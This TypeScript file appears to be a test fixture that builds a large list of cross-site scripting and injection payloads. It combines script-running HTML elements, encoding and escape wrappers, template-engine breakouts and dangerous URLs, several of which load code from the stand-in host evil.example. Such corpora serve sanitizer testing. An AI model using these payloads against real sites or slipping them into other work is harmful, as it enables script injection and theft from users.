const CODE = 'globalThis.__pwned=1';
const CALL = 'alert(1)';

/** Elements that run something, or fetch it from elsewhere. */
const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<ScRiPt >${CODE}</sCrIpT\t>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>import('//evil.example/x.mjs')</script>`,
  `<img src=//evil.example/x.png>`,
  `<img src=x onerror=${CODE}>`,
  `<img/src/onerror=${CALL}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><use href=//evil.example/x.svg#a></use></svg>`,
  `<math><mtext><img src=x onerror=${CODE}></mtext></math>`,
  `<body onload=${CODE}>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data=//evil.example/x.swf></object>`,
  `<embed src=//evil.example/x.pdf>`,
  `<a href="javascript:${CODE}">click</a>`,
  `<form action=//evil.example/><input type=submit></form>`,
  `<input autofocus onfocus=${CODE}>`,
  `<button formaction="javascript:${CODE}">ok</button>`,
  `<details open ontoggle=${CODE}>`,
  `<video src=//evil.example/x.mp4 onerror=${CODE}>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import url(//evil.example/x.css);*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<div style="position:fixed;inset:0;background:url(//evil.example/x.png)">`,
  `<template><script>${CODE}</script></template>`,
  `<x-y onpointerenter=${CODE} style="position:fixed;inset:0">`,
] as const;

/** How such an element would leave the place that a text was put into, or get around who looks for it. */
const WAYS: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `</title></textarea></style></script></pre>${element}`,
  (element) => `--!>]]>${element}<!--`,
  (element) => `{{ ${element} }}`,
  (element) => element.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (element) => encodeURIComponent(element),
  (element) => element.replaceAll('<', '\\u003c'),
  (element) => element.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (element) => `![x](x "${element}")`,
  (element) => `${element.slice(0, 3)}\0${element.slice(3)}`,
];

/** Where a text stands in an attribute, a script, a template or a style. */
const BREAKOUTS: readonly ((code: string) => string)[] = [
  (code) => `" onmouseover="${code}" x="`,
  (code) => `' onmouseover='${code}' x='`,
  (code) => `\` onmouseover=${code} x=\``,
  (code) => `x" autofocus onfocus="${code}`,
  (code) => `";${code};//`,
  (code) => `';${code};//`,
  (code) => `\\";${code};//`,
  (code) => `\`;${code};//`,
  (code) => `\u2028${code}`,
  (code) => `\${${code}}`,
  (code) => `{{${code}}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{_c.constructor('${code}')()}}`,
  (code) => `<div v-html="'${code}'" :is="'script'" @click="${code}"></div>`,
  (code) => `<%= ${code} %>`,
  (code) => `#{${code}}`,
  (code) => `[[${code}]]`,
  (code) => `*{color:expression(${code})}`,
  (code) => `red;background:url(javascript:${code})`,
  (code) => `</style><style>*{content:"${code}"}`,
  (code) => `[x](javascript:${code})`,
  (code) => `<javascript:${code}>`,
];

/** Addresses that are no addresses, or somebody else's. */
const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `javascript://%0a${CODE}`,
  `javascript:"<script>${CODE}</script>"`,
  `vbscript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CODE}>`,
  `blob:http://evil.example/1`,
  `file:///etc/passwd`,
  `//evil.example/`,
  `///evil.example/`,
  `/\\evil.example/`,
  `\\\\evil.example\\share`,
  `https://evil.example/`,
  `https://localhost@evil.example/`,
  `https://evil.example#@localhost/`,
  `?to=//evil.example/`,
  `#"><img src=x onerror=${CODE}>`,
] as const;

/** Texts that a page would run, or that would make it ask another machine, if it took them for HTML, code or an address. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...ELEMENTS.flatMap((element) => WAYS.map((way) => way(element))),
  ...[CODE, CALL].flatMap((code) => BREAKOUTS.map((breakout) => breakout(code))),
  ...ADDRESSES,
];
